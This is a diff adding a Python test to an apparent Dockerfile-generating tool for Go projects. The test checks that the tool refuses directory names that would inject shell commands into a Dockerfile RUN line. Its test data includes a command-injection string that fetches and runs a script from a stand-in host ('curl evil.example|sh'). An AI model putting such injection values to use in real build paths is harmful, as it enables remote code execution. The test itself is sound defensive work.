@@ -346,3 +346,21 @@ def test_a_directory_the_app_creates_from_its_config_is_writable(tmp_path: Path)
     c = deploy["spec"]["template"]["spec"]["containers"][0]
     assert c["securityContext"]["readOnlyRootFilesystem"] is True
     assert "/runtime/logs" in {m["mountPath"] for m in c["volumeMounts"]}
+
+
+def test_directory_names_a_shell_would_read_are_refused(tmp_path: Path) -> None:
+    """A main package in ``cmd/x;curl evil|sh;``, ``cmd/$(id)`` or ``cmd/my app``
+    would end up in the Dockerfile's shell-form RUN: init refuses, and writes nothing."""
+    for i, name in enumerate(("x;curl evil.example|sh;", "$(id)", "my app")):
+        root = write_tree(
+            tmp_path / f"svc{i}",
+            {
+                "go.mod": "module example.com/inj\n\ngo 1.22\n",
+                f"cmd/{name}/main.go": 'package main\n\nimport "net/http"\n\n'
+                'func main() { _ = http.ListenAndServe(":8080", nil) }\n',
+            },
+        )
+        r = run(str(root))
+        assert r.exit_code == 2, r.output
+        assert "cannot be written into a Dockerfile safely" in r.stderr
+        assert not (root / "Dockerfile").exists()
